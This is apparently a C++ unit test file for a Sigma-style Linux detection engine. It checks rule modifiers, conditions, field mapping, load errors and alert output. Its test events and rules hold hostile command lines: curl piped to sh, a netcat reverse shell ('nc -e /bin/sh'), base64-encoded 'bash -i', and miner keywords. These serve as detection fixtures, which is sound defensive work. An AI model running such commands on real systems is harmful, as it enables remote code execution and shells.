#include "agent/detect/detect.h"

#include <gtest/gtest.h>

#include "agent/detect/test_util.h"
#include "schema/schema.h"

namespace vigil::detect {
namespace {

using testing::Connect;
using testing::Exec;
using testing::LoadText;
using testing::Matches;
using testing::MustLoad;
using testing::RunEngine;

// A process_creation rule with one selection `sel` made of `fields` (YAML map body lines).
std::string ProcRule(const std::string& fields, const std::string& condition = "sel") {
  return "title: t\nid: r1\nlogsource:\n  category: process_creation\n  product: linux\ndetection:\n  sel:\n" + fields +
         "  condition: " + condition + "\n";
}

bool ProcMatch(const std::string& fields, const Event& e) { return Matches(MustLoad(ProcRule(fields)), e); }

TEST(Modifiers, PlainValueIsCaseInsensitiveEquality) {
  EXPECT_TRUE(ProcMatch("    Image: /usr/bin/WGET\n", Exec("/usr/bin/wget", "wget x")));
  EXPECT_FALSE(ProcMatch("    Image: /usr/bin/wge\n", Exec("/usr/bin/wget", "wget x")));
}

TEST(Modifiers, ContainsStartswithEndswith) {
  Event e = Exec("/usr/bin/curl", "curl -s http://198.51.100.7/x.sh");
  EXPECT_TRUE(ProcMatch("    CommandLine|contains: 'HTTP://'\n", e));
  EXPECT_FALSE(ProcMatch("    CommandLine|contains: 'ftp://'\n", e));
  EXPECT_TRUE(ProcMatch("    CommandLine|startswith: 'curl -s'\n", e));
  EXPECT_FALSE(ProcMatch("    CommandLine|startswith: '-s'\n", e));
  EXPECT_TRUE(ProcMatch("    Image|endswith: '/curl'\n", e));
  EXPECT_FALSE(ProcMatch("    Image|endswith: '/cur'\n", e));
}

TEST(Modifiers, ListIsOrAndAllIsAnd) {
  Event e = Exec("/usr/bin/curl", "curl -s http://x | sh");
  EXPECT_TRUE(ProcMatch("    CommandLine|contains:\n      - 'wget'\n      - '| sh'\n", e));
  EXPECT_FALSE(ProcMatch("    CommandLine|contains|all:\n      - 'wget'\n      - '| sh'\n", e));
  EXPECT_TRUE(ProcMatch("    CommandLine|contains|all:\n      - 'curl'\n      - '| sh'\n", e));
}

TEST(Modifiers, MapIsAndOfFields) {
  Event e = Exec("/usr/bin/curl", "curl http://x");
  EXPECT_TRUE(ProcMatch("    Image|endswith: /curl\n    User: root\n", e));
  EXPECT_FALSE(ProcMatch("    Image|endswith: /curl\n    User: alice\n", e));
}

TEST(Modifiers, WildcardsAndEscapes) {
  EXPECT_TRUE(ProcMatch("    CommandLine: 'curl * | ?h'\n", Exec("/usr/bin/curl", "curl http://x | sh")));
  EXPECT_FALSE(ProcMatch("    CommandLine: 'curl * | ?h'\n", Exec("/usr/bin/curl", "curl http://x | bash")));
  // Escaped wildcards are literal.
  EXPECT_TRUE(ProcMatch("    CommandLine: 'echo \\*'\n", Exec("/bin/echo", "echo *")));
  EXPECT_FALSE(ProcMatch("    CommandLine: 'echo \\*'\n", Exec("/bin/echo", "echo x")));
  EXPECT_TRUE(ProcMatch("    CommandLine: 'what\\?'\n", Exec("/bin/echo", "what?")));
  EXPECT_FALSE(ProcMatch("    CommandLine: 'what\\?'\n", Exec("/bin/echo", "whatx")));
  // A double backslash is one backslash; a lone backslash before another character is literal.
  EXPECT_TRUE(ProcMatch("    CommandLine: 'a\\\\*'\n", Exec("/bin/echo", "a\\bcd")));
  EXPECT_TRUE(ProcMatch("    CommandLine: 'c:\\temp'\n", Exec("/bin/echo", "C:\\TEMP")));
  EXPECT_TRUE(ProcMatch("    CommandLine|contains: 'x*y'\n", Exec("/bin/echo", "aaa x123y bbb")));
  EXPECT_TRUE(ProcMatch("    Image: '*'\n", Exec("/bin/echo", "x")));
}

TEST(Modifiers, CasedComparesExactly) {
  EXPECT_TRUE(ProcMatch("    CommandLine|contains|cased: 'SECRET'\n", Exec("/bin/x", "echo SECRET")));
  EXPECT_FALSE(ProcMatch("    CommandLine|contains|cased: 'SECRET'\n", Exec("/bin/x", "echo secret")));
}

TEST(Modifiers, RegularExpressionsAreCaseSensitiveUnlessI) {
  Event e = Exec("/usr/bin/python3", "python3 -c 'import socket,subprocess'");
  EXPECT_TRUE(ProcMatch("    CommandLine|re: 'import\\s+socket'\n", e));
  EXPECT_FALSE(ProcMatch("    CommandLine|re: 'IMPORT\\s+socket'\n", e));
  EXPECT_TRUE(ProcMatch("    CommandLine|re|i: 'IMPORT\\s+socket'\n", e));
  Event ml = Exec("/bin/sh", "line1\nline2");
  EXPECT_FALSE(ProcMatch("    CommandLine|re: '^line2$'\n", ml));
  EXPECT_TRUE(ProcMatch("    CommandLine|re|m: '^line2$'\n", ml));
  EXPECT_FALSE(ProcMatch("    CommandLine|re: 'line1.line2'\n", ml));
  EXPECT_TRUE(ProcMatch("    CommandLine|re|s: 'line1.line2'\n", ml));
}

TEST(Modifiers, CidrOnIpFields) {
  auto rules = MustLoad(
      "title: t\nlogsource: {category: network_connection, product: linux}\n"
      "detection:\n  sel:\n    DestinationIp|cidr:\n      - 198.51.100.0/24\n      - 2001:db8::/32\n"
      "  condition: sel\n");
  EXPECT_TRUE(Matches(rules, Connect("198.51.100.9", 443)));
  EXPECT_FALSE(Matches(rules, Connect("198.51.101.9", 443)));
  EXPECT_TRUE(Matches(rules, Connect("2001:db8:1::9", 443)));
  EXPECT_FALSE(Matches(rules, Connect("2001:db9::9", 443)));
  EXPECT_FALSE(Matches(rules, Connect("not-an-ip", 443)));
}

TEST(Modifiers, NumericComparisons) {
  auto rule = [](const std::string& mod) {
    return MustLoad(
        "title: t\nlogsource: {category: network_connection, product: linux}\n"
        "detection:\n  sel:\n    DestinationPort|" +
        mod + ": 1024\n  condition: sel\n");
  };
  EXPECT_TRUE(Matches(rule("gt"), Connect("192.0.2.1", 4444)));
  EXPECT_FALSE(Matches(rule("gt"), Connect("192.0.2.1", 1024)));
  EXPECT_TRUE(Matches(rule("gte"), Connect("192.0.2.1", 1024)));
  EXPECT_TRUE(Matches(rule("lt"), Connect("192.0.2.1", 22)));
  EXPECT_FALSE(Matches(rule("lt"), Connect("192.0.2.1", 1024)));
  EXPECT_TRUE(Matches(rule("lte"), Connect("192.0.2.1", 1024)));
  // A plain number compares with the integer field's text.
  auto eq = MustLoad(
      "title: t\nlogsource: {category: network_connection, product: linux}\n"
      "detection:\n  sel:\n    DestinationPort: [3333, 4444]\n  condition: sel\n");
  EXPECT_TRUE(Matches(eq, Connect("192.0.2.1", 4444)));
  EXPECT_FALSE(Matches(eq, Connect("192.0.2.1", 44444)));
}

TEST(Modifiers, ExistsAndNull) {
  Event with = Exec("/bin/x", "x");
  Event without = Exec("/bin/x", "x");
  without.data.erase("cwd");
  EXPECT_TRUE(ProcMatch("    CurrentDirectory|exists: true\n", with));
  EXPECT_FALSE(ProcMatch("    CurrentDirectory|exists: true\n", without));
  EXPECT_TRUE(ProcMatch("    CurrentDirectory|exists: false\n", without));
  EXPECT_TRUE(ProcMatch("    CurrentDirectory: null\n", without));
  EXPECT_FALSE(ProcMatch("    CurrentDirectory: null\n", with));
  Event json_null = with;
  json_null.data["cwd"] = nullptr;
  EXPECT_TRUE(ProcMatch("    CurrentDirectory: null\n", json_null));
  // null among other values: absent or one of them.
  EXPECT_TRUE(ProcMatch("    CurrentDirectory:\n      - null\n      - /tmp\n", without));
  Event tmp = with;
  tmp.data["cwd"] = "/tmp";
  EXPECT_TRUE(ProcMatch("    CurrentDirectory:\n      - null\n      - /tmp\n", tmp));
  EXPECT_FALSE(ProcMatch("    CurrentDirectory:\n      - null\n      - /tmp\n", with));
  // The empty string is not null.
  Event empty = with;
  empty.data["cwd"] = "";
  EXPECT_TRUE(ProcMatch("    CurrentDirectory: ''\n", empty));
  EXPECT_FALSE(ProcMatch("    CurrentDirectory: ''\n", without));
}

TEST(Modifiers, Base64AndBase64Offset) {
  // "curl" in base64 is "Y3VybA==".
  EXPECT_TRUE(ProcMatch("    CommandLine|base64|contains: curl\n", Exec("/bin/sh", "echo Y3VybA== | base64 -d")));
  EXPECT_FALSE(ProcMatch("    CommandLine|base64|contains: curl\n", Exec("/bin/sh", "echo y3vyba== | base64 -d")));
  // "bash -i" inside longer base64 text at each of the three offsets.
  for (const char* encoded : {"YmFzaCAtaQ==", "IGJhc2ggLWk=", "ICBiYXNoIC1p"}) {
    EXPECT_TRUE(ProcMatch("    CommandLine|base64offset|contains: 'bash -i'\n",
                          Exec("/bin/sh", std::string("echo ") + encoded + " | base64 -d | sh")))
        << encoded;
  }
  EXPECT_FALSE(ProcMatch("    CommandLine|base64offset|contains: 'bash -i'\n", Exec("/bin/sh", "echo aGVsbG8= | sh")));
}

TEST(Modifiers, WindashMatchesEveryDashForm) {
  std::string rule = "    CommandLine|windash|contains: ' -enc '\n";
  EXPECT_TRUE(ProcMatch(rule, Exec("/bin/pwsh", "pwsh -enc AAA")));
  EXPECT_TRUE(ProcMatch(rule, Exec("/bin/pwsh", "pwsh /enc AAA")));
  EXPECT_TRUE(ProcMatch(rule, Exec("/bin/pwsh",
                                   "pwsh \xe2\x80\x93"
                                   "enc AAA")));
  EXPECT_FALSE(ProcMatch(rule, Exec("/bin/pwsh", "pwsh +enc AAA")));
}

TEST(Modifiers, ExpandMatchesNamedLists) {
  auto lists = std::make_shared<Lists>();
  lists->Load("bad_ips", "198.51.100.0/24\n2001:db8:bad::/48\n", "bad_ips.txt");
  lists->Load("pools", "example.com\n", "pools.txt");
  auto rules = MustLoad(
      "title: ip\nid: a\nlogsource: {category: network_connection, product: linux}\n"
      "detection:\n  sel:\n    DestinationIp|expand: '%bad_ips%'\n  condition: sel\n"
      "---\n"
      "title: dom\nid: b\nlogsource: {category: process_creation, product: linux}\n"
      "detection:\n  sel:\n    CommandLine|expand: '%pools%'\n  condition: sel\n",
      lists);
  EXPECT_TRUE(Matches(rules, Connect("198.51.100.3", 80)));
  EXPECT_TRUE(Matches(rules, Connect("2001:db8:bad::1", 80)));
  EXPECT_FALSE(Matches(rules, Connect("192.0.2.3", 80)));
  EXPECT_TRUE(Matches(rules, Exec("/bin/x", "pool.EXAMPLE.com")));
  // Reloading the list changes what the same compiled rules match.
  lists->Load("bad_ips", "192.0.2.0/24\n", "bad_ips.txt");
  EXPECT_TRUE(Matches(rules, Connect("192.0.2.3", 80)));
  EXPECT_FALSE(Matches(rules, Connect("198.51.100.3", 80)));
}

TEST(Modifiers, MissingListIsAWarningAndMatchesNothingUntilLoaded) {
  auto lists = std::make_shared<Lists>();
  auto r = LoadText(
      "title: ip\nlogsource: {category: network_connection, product: linux}\n"
      "detection:\n  sel:\n    DestinationIp|expand: '%later%'\n  condition: sel\n",
      lists);
  EXPECT_TRUE(r.errors.empty());
  ASSERT_FALSE(r.warnings.empty());
  EXPECT_NE(r.warnings[0].message.find("'later' is not loaded"), std::string::npos);
  EXPECT_FALSE(Matches(r.rules, Connect("192.0.2.3", 80)));
  lists->Load("later", "192.0.2.3\n", "later.txt");
  EXPECT_TRUE(Matches(r.rules, Connect("192.0.2.3", 80)));
}

TEST(Keywords, MatchAnyTextFieldOfTheEvent) {
  auto rules = MustLoad(
      "title: kw\nlogsource: {category: process_creation, product: linux}\n"
      "detection:\n  keywords:\n    - 'stratum+tcp://'\n    - 'xmrig'\n  condition: keywords\n");
  EXPECT_TRUE(Matches(rules, Exec("/tmp/.x/run", "run -o stratum+TCP://pool:3333")));
  EXPECT_TRUE(Matches(rules, Exec("/opt/XMRig/bin", "bin")));
  EXPECT_FALSE(Matches(rules, Exec("/usr/bin/true", "true")));
}

TEST(Keywords, CombineWithSelectionsAndNot) {
  auto rules = MustLoad(
      "title: kw\nlogsource: {category: process_creation, product: linux}\n"
      "detection:\n  keywords: ['nc -e']\n  filter:\n    User: admin\n  condition: keywords and not filter\n");
  EXPECT_TRUE(Matches(rules, Exec("/bin/nc", "nc -e /bin/sh 1.2.3.4 4444", "root")));
  EXPECT_FALSE(Matches(rules, Exec("/bin/nc", "nc -e /bin/sh 1.2.3.4 4444", "admin")));
}

TEST(Conditions, OneOfAllOfAndPrecedenceInRules) {
  std::string base =
      "title: t\nlogsource: {category: process_creation, product: linux}\ndetection:\n"
      "  sel_a:\n    Image|endswith: /nc\n  sel_b:\n    CommandLine|contains: ' -e '\n"
      "  filter:\n    User: admin\n  condition: ";
  auto one = MustLoad(base + "1 of sel_* and not filter\n");
  auto all = MustLoad(base + "all of sel_* and not filter\n");
  Event nc_only = Exec("/bin/nc", "nc 1.2.3.4 80");
  Event both = Exec("/bin/nc", "nc -e /bin/sh 1.2.3.4 80");
  Event admin = Exec("/bin/nc", "nc -e /bin/sh 1.2.3.4 80", "admin");
  EXPECT_TRUE(Matches(one, nc_only));
  EXPECT_FALSE(Matches(all, nc_only));
  EXPECT_TRUE(Matches(all, both));
  EXPECT_FALSE(Matches(one, admin));
  // `a or b and not c` is `a or (b and not c)`: the admin's event still matches through sel_a.
  auto prec = MustLoad(base + "sel_a or sel_b and not filter\n");
  EXPECT_TRUE(Matches(prec, admin));
  auto paren = MustLoad(base + "(sel_a or sel_b) and not filter\n");
  EXPECT_FALSE(Matches(paren, admin));
  auto them = MustLoad(base + "all of them\n");
  EXPECT_TRUE(Matches(them, admin));
  EXPECT_FALSE(Matches(them, both));
}

TEST(Conditions, ListOfMapsIsOr) {
  auto rules = MustLoad(
      "title: t\nlogsource: {category: process_creation, product: linux}\ndetection:\n"
      "  sel:\n    - Image|endswith: /wget\n      User: www-data\n    - Image|endswith: /curl\n"
      "  condition: sel\n");
  EXPECT_TRUE(Matches(rules, Exec("/usr/bin/wget", "wget", "www-data")));
  EXPECT_FALSE(Matches(rules, Exec("/usr/bin/wget", "wget", "root")));
  EXPECT_TRUE(Matches(rules, Exec("/usr/bin/curl", "curl", "root")));
}

TEST(Conditions, ConditionListIsOr) {
  auto rules = MustLoad(
      "title: t\nlogsource: {category: process_creation, product: linux}\ndetection:\n"
      "  a:\n    Image: /bin/a\n  b:\n    Image: /bin/b\n  condition:\n    - a\n    - b\n");
  EXPECT_TRUE(Matches(rules, Exec("/bin/a", "a")));
  EXPECT_TRUE(Matches(rules, Exec("/bin/b", "b")));
  EXPECT_FALSE(Matches(rules, Exec("/bin/c", "c")));
}

TEST(FieldMapping, SigmaNamesMapThroughTheSchema) {
  Event e = Exec("/usr/bin/curl", "curl x");
  e.data["parent_exe"] = "/usr/sbin/apache2";
  e.data["parent_cmdline"] = "/usr/sbin/apache2 -k start";
  EXPECT_TRUE(
      ProcMatch("    ParentImage|endswith: /apache2\n    ParentCommandLine|contains: '-k start'\n"
                "    CurrentDirectory: /root\n    ProcessId: 4242\n    ParentProcessId: 1\n",
                e));
  auto net = MustLoad(
      "title: t\nlogsource: {category: network_connection, product: linux}\ndetection:\n"
      "  sel:\n    Image|endswith: /curl\n    DestinationPort: 443\n    Initiated: 'true'\n    SourceIp: 10.0.0.2\n"
      "    Protocol: tcp\n  condition: sel\n");
  EXPECT_TRUE(Matches(net, Connect("192.0.2.1", 443)));
  Event accept = Connect("192.0.2.1", 443);
  accept.action = "accept";
  EXPECT_TRUE(Matches(net, accept));  // network_connection is connect and accept
  Event listen = Connect("192.0.2.1", 443);
  listen.action = "listen";
  EXPECT_FALSE(Matches(net, listen));
}

TEST(FieldMapping, VigilOwnNamesAndEnvelopeFields) {
  // Vigil's own keys work in Sigma log sources too.
  EXPECT_TRUE(ProcMatch("    exe|endswith: /curl\n    comm|exists: false\n", Exec("/usr/bin/curl", "curl")));
  auto rules = MustLoad(
      "title: t\nlogsource: {product: vigil, category: login, service: failure}\ndetection:\n"
      "  sel:\n    user: root\n    source_ip|cidr: 192.0.2.0/24\n    device: dev1\n    type: login\n"
      "    action: failure\n    priority: medium\n  condition: sel\n");
  EXPECT_TRUE(Matches(rules, testing::LoginFailure("root", "192.0.2.9", 1000)));
  EXPECT_FALSE(Matches(rules, testing::LoginFailure("root", "198.51.100.1", 1000)));
  Event success = testing::LoginFailure("root", "192.0.2.9", 1000);
  success.action = "success";
  EXPECT_FALSE(Matches(rules, success));  // service: failure only
}

TEST(FieldMapping, NestedAndArrayFieldsOfVigilTypes) {
  auto rules = MustLoad(
      "title: t\nlogsource: {product: vigil, category: system_info}\ndetection:\n"
      "  sel:\n    kernel.release|startswith: '4.'\n  condition: sel\n");
  Event e;
  e.type = "system_info";
  e.action = "snapshot";
  e.data = {{"kernel", {{"release", "4.19.0-arm"}}}};
  EXPECT_TRUE(Matches(rules, e));
  e.data["kernel"]["release"] = "6.1.0";
  EXPECT_FALSE(Matches(rules, e));
  // Array of strings: any element.
  auto argv = MustLoad(ProcRule("    argv: '--donate-level=1'\n"));
  Event x = Exec("/tmp/x", "x --donate-level=1");
  x.data["argv"] = {"x", "--donate-level=1"};
  EXPECT_TRUE(Matches(argv, x));
  x.data["argv"] = {"x", "--other"};
  EXPECT_FALSE(Matches(argv, x));
}

TEST(FieldMapping, OtherTypesAreNotEvaluated) {
  auto rules = MustLoad(ProcRule("    Image|endswith: /curl\n"));
  Event exit_event = Exec("/usr/bin/curl", "curl");
  exit_event.action = "exit";
  EXPECT_FALSE(Matches(rules, exit_event));
  EXPECT_FALSE(Matches(rules, Connect("192.0.2.1", 80)));
}

// ---- load errors ----

TEST(LoadErrors, NameFileLineAndWhatIsWrong) {
  std::string text =
      "title: good one\nid: g1\nlogsource: {category: process_creation, product: linux}\n"
      "detection:\n  sel:\n    Image: /bin/a\n  condition: sel\n"
      "---\n"
      "title: bad modifier\nid: b1\nlogsource: {category: process_creation, product: linux}\n"
      "detection:\n  sel:\n    Image|startwith: /bin/a\n  condition: sel\n"
      "---\n"
      "title: good two\nid: g2\nlogsource: {category: process_creation, product: linux}\n"
      "detection:\n  sel:\n    Image: /bin/b\n  condition: sel\n"
      "---\n"
      "title: good three\nid: g3\nlogsource: {category: network_connection, product: linux}\n"
      "detection:\n  sel:\n    DestinationPort: 23\n  condition: sel\n";
  auto r = LoadText(text, nullptr, "rules/mixed.yml");
  EXPECT_EQ(r.loaded, 3u);
  EXPECT_EQ(r.failed, 1u);
  ASSERT_EQ(r.errors.size(), 1u);
  EXPECT_EQ(r.errors[0].line, 14);
  EXPECT_EQ(r.errors[0].ToString(), "rules/mixed.yml:14: rule 'bad modifier': unknown modifier 'startwith'");
  EXPECT_EQ(r.rules->rule_count(), 3u);
  EXPECT_TRUE(Matches(r.rules, Exec("/bin/b", "b")));
}

struct BadCase {
  const char* name;
  std::string text;
  int line;
  const char* message;
};

TEST(LoadErrors, MalformedRulesNameTheLine) {
  const std::string head = "title: t\nlogsource: {category: process_creation, product: linux}\n";
  std::vector<BadCase> cases = {
      {"bad yaml", head + "detection:\n  sel:\n    Image: [unclosed\n  condition: sel\n", 6, "YAML"},
      {"unknown field", head + "detection:\n  sel:\n    Imagee: /bin/a\n  condition: sel\n", 5,
       "field 'Imagee' is not a field of process/exec events"},
      {"unknown modifier", head + "detection:\n  sel:\n    Image|foo: x\n  condition: sel\n", 5,
       "unknown modifier 'foo'"},
      {"windows modifier", head + "detection:\n  sel:\n    CommandLine|wide|base64: x\n  condition: sel\n", 5,
       "unsupported modifier 'wide'"},
      {"bad condition", head + "detection:\n  sel:\n    Image: x\n  condition: sel and\n", 6, "condition 'sel and'"},
      {"unknown ident", head + "detection:\n  sel:\n    Image: x\n  condition: sel or other\n", 6,
       "unknown search identifier 'other'"},
      {"no condition", head + "detection:\n  sel:\n    Image: x\n", 4, "no 'condition'"},
      {"wrong type", head + "detection:\n  sel: 5\n  condition: sel\n", 0, ""},  // a keyword "5": loads
      {"value map", head + "detection:\n  sel:\n    Image:\n      a: b\n  condition: sel\n", 6, "values must be"},
      {"bad regex", head + "detection:\n  sel:\n    Image|re: '(['\n  condition: sel\n", 5, "bad regular expression"},
      {"bad cidr", head + "detection:\n  sel:\n    Image|cidr: 10.0.0.0/40\n  condition: sel\n", 5, "cidr"},
      {"bad number", head + "detection:\n  sel:\n    ProcessId|gt: lots\n  condition: sel\n", 5, "a number is needed"},
      {"bad exists", head + "detection:\n  sel:\n    Image|exists: maybe\n  condition: sel\n", 5, "true or false"},
      {"combined", head + "detection:\n  sel:\n    Image|contains|endswith: x\n  condition: sel\n", 5, "at most one"},
      {"bad level",
       "title: t\nlevel: severe\nlogsource: {category: process_creation, product: linux}\n"
       "detection:\n  sel:\n    Image: x\n  condition: sel\n",
       2, "level 'severe'"},
      {"no title",
       "logsource: {category: process_creation, product: linux}\ndetection:\n  sel:\n    Image: x\n"
       "  condition: sel\n",
       1, "missing 'title'"},
      {"windows",
       "title: t\nlogsource:\n  category: process_creation\n  product: windows\n"
       "detection:\n  sel:\n    Image: x\n  condition: sel\n",
       3, "unsupported logsource"},
      {"vigil type",
       "title: t\nlogsource: {product: vigil, category: nosuch}\n"
       "detection:\n  sel:\n    x: 1\n  condition: sel\n",
       2, "not a Vigil event type"},
      {"aggregation", head + "detection:\n  sel:\n    Image: x\n  condition: sel | count() > 5\n", 6,
       "correlation rule"},
      {"expand text", head + "detection:\n  sel:\n    Image|expand: '/home/%user%/x'\n  condition: sel\n", 5,
       "'expand' needs a whole value"},
      {"not a map", "- just\n- a list\n", 1, "must be a map"},
  };
  for (const auto& c : cases) {
    auto r = LoadText(c.text, nullptr, "f.yml");
    if (c.line == 0) {
      EXPECT_TRUE(r.errors.empty()) << c.name;
      continue;
    }
    ASSERT_EQ(r.errors.size(), 1u) << c.name;
    EXPECT_EQ(r.errors[0].line, c.line) << c.name << ": " << r.errors[0].ToString();
    EXPECT_NE(r.errors[0].message.find(c.message), std::string::npos) << c.name << ": " << r.errors[0].ToString();
    EXPECT_EQ(r.loaded, 0u) << c.name;
  }
}

TEST(LoadErrors, DuplicateIdsAndYamlErrorLaterInFile) {
  std::string rule =
      "title: t\nid: same\nlogsource: {category: process_creation, product: linux}\n"
      "detection:\n  sel:\n    Image: x\n  condition: sel\n";
  auto r = LoadText(rule + "---\n" + rule + "---\ntitle: [broken\n", nullptr, "d.yml");
  EXPECT_EQ(r.loaded, 1u);
  ASSERT_EQ(r.errors.size(), 2u);
  EXPECT_EQ(r.errors[0].line, 9);
  EXPECT_NE(r.errors[0].message.find("duplicate rule id 'same'"), std::string::npos);
  EXPECT_GE(r.errors[1].line, 17);  // the unclosed flow sequence, reported where the document ends
  EXPECT_LE(r.errors[1].line, 18);
}

// ---- alerts ----

TEST(Alerts, CarryRuleMetadataAndValidateAgainstTheSchema) {
  auto rules = MustLoad(
      "title: Download piped to shell\nid: 11111111-2222-3333-4444-555555555555\nname: curl_pipe_sh\n"
      "level: high\ntags:\n  - attack.execution\n  - attack.t1059.004\n  - attack.T1105\n"
      "logsource: {category: process_creation, product: linux}\n"
      "detection:\n  sel:\n    Image|endswith: [/curl, /wget]\n    CommandLine|contains: '| sh'\n  condition: sel\n");
  Engine engine(rules);
  Event e = Exec("/usr/bin/curl", "curl -s http://198.51.100.7/x | sh");
  auto alerts = RunEngine(engine, e);
  ASSERT_EQ(alerts.size(), 1u);
  const Event& a = alerts[0];
  EXPECT_EQ(a.type, "alert");
  EXPECT_EQ(a.action, "match");
  EXPECT_EQ(a.priority, Priority::kHigh);
  EXPECT_EQ(a.device, "dev1");
  EXPECT_EQ(a.ts_ms, e.ts_ms);
  EXPECT_EQ(a.data["rule_id"], "11111111-2222-3333-4444-555555555555");
  EXPECT_EQ(a.data["rule_name"], "curl_pipe_sh");
  EXPECT_EQ(a.data["level"], "high");
  EXPECT_EQ(a.data["attack"], Json({"T1059.004", "T1105"}));
  EXPECT_EQ(a.data["tags"], Json({"attack.execution"}));
  EXPECT_EQ(a.data["summary"],
            "Download piped to shell: Image=/usr/bin/curl CommandLine=curl -s http://198.51.100.7/x | sh");
  EXPECT_EQ(a.data["events_total"], 1);
  ASSERT_EQ(a.data["events"].size(), 1u);
  EXPECT_EQ(Json::parse(a.data["events"][0].get<std::string>())["data"]["exe"], "/usr/bin/curl");
  Event stamped = a;
  stamped.seq = 1;
  const auto& schema = schema::BuiltinSchema();
  ASSERT_TRUE(schema.ok());
  Status st = schema->Validate(EventToJson(stamped));
  EXPECT_TRUE(st.ok()) << st.ToString();
}

TEST(Alerts, SerialiseEvenWhenTheEventHasInvalidUtf8) {
  auto rules = MustLoad(ProcRule("    CommandLine|contains: '| sh'\n"));
  Engine engine(rules);
  auto alerts = RunEngine(engine, Exec("/tmp/\xff\xfe", "curl \xc3 x | sh"));
  ASSERT_EQ(alerts.size(), 1u);
  std::string line;
  EXPECT_NO_THROW(line = EventToJsonLine(alerts[0]));
  EXPECT_NE(line.find("CommandLine=curl ? x | sh"), std::string::npos) << line;
}

TEST(Suppression, RepeatsWithinTheWindowAreCountedAndReported) {
  auto rules = MustLoad(ProcRule("    Image|endswith: /nc\n"));
  EngineOptions o;
  o.suppress_ms = 60'000;
  Engine engine(rules, o);
  EXPECT_EQ(RunEngine(engine, Exec("/bin/nc", "nc", "root", 1'000'000)).size(), 1u);
  EXPECT_TRUE(RunEngine(engine, Exec("/bin/nc", "nc", "root", 1'010'000)).empty());
  EXPECT_TRUE(RunEngine(engine, Exec("/bin/nc", "nc", "root", 1'059'999)).empty());
  Event other_device = Exec("/bin/nc", "nc", "root", 1'020'000);
  other_device.device = "dev2";
  EXPECT_EQ(RunEngine(engine, other_device).size(), 1u);  // another device is another group
  auto next = RunEngine(engine, Exec("/bin/nc", "nc", "root", 1'060'000));
  ASSERT_EQ(next.size(), 1u);
  EXPECT_EQ(next[0].data["suppressed"], 2);
  EXPECT_EQ(engine.stats().suppressed, 2u);
  auto after = RunEngine(engine, Exec("/bin/nc", "nc", "root", 1'200'000));
  ASSERT_EQ(after.size(), 1u);
  EXPECT_FALSE(after[0].data.contains("suppressed"));
}

TEST(Prefilter, SkipsRulesWhoseLiteralsAreAbsentAndKeepsOthers) {
  std::string rules_text;
  for (int i = 0; i < 50; ++i) {
    rules_text += "title: r" + std::to_string(i) +
                  "\nlogsource: {category: process_creation, product: linux}\n"
                  "detection:\n  sel:\n    CommandLine|contains: 'needle" +
                  std::to_string(i) + "x'\n  condition: sel\n---\n";
  }
  rules_text +=
      "title: negated\nlogsource: {category: process_creation, product: linux}\n"
      "detection:\n  filter:\n    User: root\n  condition: not filter\n";
  auto rules = MustLoad(rules_text);
  EngineOptions o;
  o.suppress_ms = 0;
  Engine engine(rules, o);
  auto alerts = RunEngine(engine, Exec("/bin/x", "aaa NEEDLE17X bbb", "root"));
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(alerts[0].data["title"], "r17");
  EXPECT_EQ(engine.stats().candidates, 2u);  // r17 and the rule without a literal
  auto neg = RunEngine(engine, Exec("/bin/x", "nothing", "alice"));
  ASSERT_EQ(neg.size(), 1u);
  EXPECT_EQ(neg[0].data["title"], "negated");
}

TEST(Rules, ListingSaysTargetsAndLevels) {
  auto rules = MustLoad(
      "title: t\nid: x\nlevel: low\nlogsource: {category: network_connection, product: linux}\n"
      "detection:\n  sel:\n    DestinationPort: 23\n  condition: sel\n");
  auto info = rules->Rules();
  ASSERT_EQ(info.size(), 1u);
  EXPECT_EQ(info[0].id, "x");
  EXPECT_EQ(info[0].level, "low");
  EXPECT_EQ(info[0].line, 1);
  EXPECT_EQ(info[0].targets, (std::vector<std::string>{"network/connect", "network/accept"}));
}

}  // namespace
}  // namespace vigil::detect
